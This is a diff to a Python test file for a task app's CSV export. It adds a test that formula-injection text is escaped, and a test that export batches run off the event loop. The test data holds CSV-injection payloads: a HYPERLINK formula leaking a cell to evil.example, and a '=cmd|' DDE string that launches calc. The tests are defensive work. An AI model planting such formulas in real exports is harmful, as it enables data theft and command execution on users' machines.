@@ -1,5 +1,6 @@
 """`/export`'s archive: each CSV of a seeded company, never another company's rows, text that
-survives commas, quotes, line breaks and emoji; owners only, in good standing or not; on SQLite."""
+survives commas, quotes, line breaks and emoji and never runs as a formula, written off the
+event loop; owners only, in good standing or not; on SQLite."""
 
 from __future__ import annotations
 
@@ -7,9 +8,13 @@ import asyncio
 import csv
 import io
 import json
+import threading
 import zipfile
+from collections.abc import Sequence
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 import pytest
 from sqlalchemy import select, update
@@ -18,7 +23,7 @@ from sqlalchemy.ext.asyncio import AsyncSession
 from teamtasks import migrations
 from teamtasks.config import Settings
 from teamtasks.db import create_engine, create_session_factory, unit_of_work
-from teamtasks.models import AuditLog, File, Membership, Subscription, User
+from teamtasks.models import AuditLog, File, Membership, Subscription, Task, User
 from teamtasks.models.base import utcnow
 from teamtasks.models.enums import SubscriptionStatus, TaskPriority, TaskStatus
 from teamtasks.services import comments, companies, exports, tasks
@@ -31,6 +36,7 @@ from tests.support import factories
 Sheets = dict[str, list[list[str]]]
 TRICKY = 'Pay "Acme, Inc.", then\nship 🚀\nsoon'
 TITLE = 'Pay "Acme, Inc." 🚀'
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&B2,"open")'
 NOW = datetime(2026, 11, 26, 22, 30, tzinfo=UTC)
 """01:30 on 27 November in Moscow, the company's time zone: the file is named by that day."""
 
@@ -233,6 +239,85 @@ async def test_commas_quotes_line_breaks_and_emoji_survive(
     assert sheets["comments"][1][2] == TRICKY
     assert raw.startswith(b"task,author,text,created_at\r\n")  # UTF-8 without a BOM
     assert '"Pay ""Acme, Inc."", then\nship 🚀\nsoon"'.encode() in raw
+
+
+async def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted(
+    session: AsyncSession, acme: Team
+) -> None:
+    """OWASP's CSV injection: people's text never starts a cell with = + - @ tab or CR."""
+    member = acme.member_actor
+    acme.member.first_name = "@Bob"
+    acme.member.username = "\rbob"
+    acme.project.description = "\tindented"
+    await session.flush()
+    await tasks.create_task(session, actor=member, title=HYPERLINK)
+    await tasks.set_description(session, actor=member, number=2, description="+7 900 000-00-00")
+    await comments.add_comment(session, actor=member, number=2, text="-1+1")
+    await comments.add_comment(session, actor=member, number=2, text="a = b - c")
+    session.add(
+        File(
+            company_id=acme.company.id,
+            task_id=acme.task.id,
+            uploaded_by_id=acme.member.id,
+            storage_key=f"company_{acme.company.id}/task_{acme.task.id}/cmd",
+            original_name="=cmd|' /C calc'!A0",
+            content_type="application/octet-stream",
+            size_bytes=10,
+            sha256="cd" * 32,
+        )
+    )
+    await session.flush()
+
+    _, sheets = await export_of(session, acme)
+
+    assert sheets["members"][3][:3] == ["'@Bob", "'\rbob", "member"]
+    assert sheets["projects"][1][:2] == ["Website", "'\tindented"]
+    task = sheets["tasks"][2]
+    assert task[:4] == ["2", f"'{HYPERLINK}", "'+7 900 000-00-00", "todo"]
+    assert task[7] == "'@Bob"
+    assert task[10] == iso(await session.scalar(select(Task.created_at).where(Task.number == 2)))
+    assert [row[1:3] for row in sheets["comments"][1:]] == [
+        ["'@Bob", "'-1+1"],
+        ["'@Bob", "a = b - c"],
+    ]
+    assert sheets["files"][1][:3] == ["1", "'=cmd|' /C calc'!A0", "10"]
+    assert [row[1] for row in sheets["audit"][1:]].count("'@Bob") == 4
+
+
+async def test_each_batch_is_written_off_the_event_loop(
+    session: AsyncSession, acme: Team, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """While a batch is formatted and deflated, the loop goes on serving other work: the
+    writer asks the loop to run a coroutine and waits for its answer. On the loop's own thread
+    that answer could never come (the wait times out and the export fails)."""
+    loop = asyncio.get_running_loop()
+    writers: set[int] = set()
+    served: list[int] = []
+
+    async def on_the_loop() -> int:
+        return threading.get_ident()
+
+    def cells(row: Any) -> Sequence[exports.Cell]:
+        writers.add(threading.get_ident())
+        if not served:
+            served.append(asyncio.run_coroutine_threadsafe(on_the_loop(), loop).result(10))
+        return tasks_sheet.cells(row)
+
+    tasks_sheet = next(sheet for sheet in exports.SHEETS if sheet.name == "tasks")
+    monkeypatch.setattr(
+        exports,
+        "SHEETS",
+        tuple(replace(s, cells=cells) if s is tasks_sheet else s for s in exports.SHEETS),
+    )
+    monkeypatch.setattr(exports, "BATCH", 2)
+    for number in range(2, 6):
+        await tasks.create_task(session, actor=acme.owner_actor, title=f"Task {number}")
+
+    _, sheets = await export_of(session, acme)
+
+    assert [row[0] for row in sheets["tasks"][1:]] == ["1", "2", "3", "4", "5"]
+    assert served == [threading.get_ident()]
+    assert threading.get_ident() not in writers
 
 
 async def test_a_company_out_of_good_standing_still_exports(
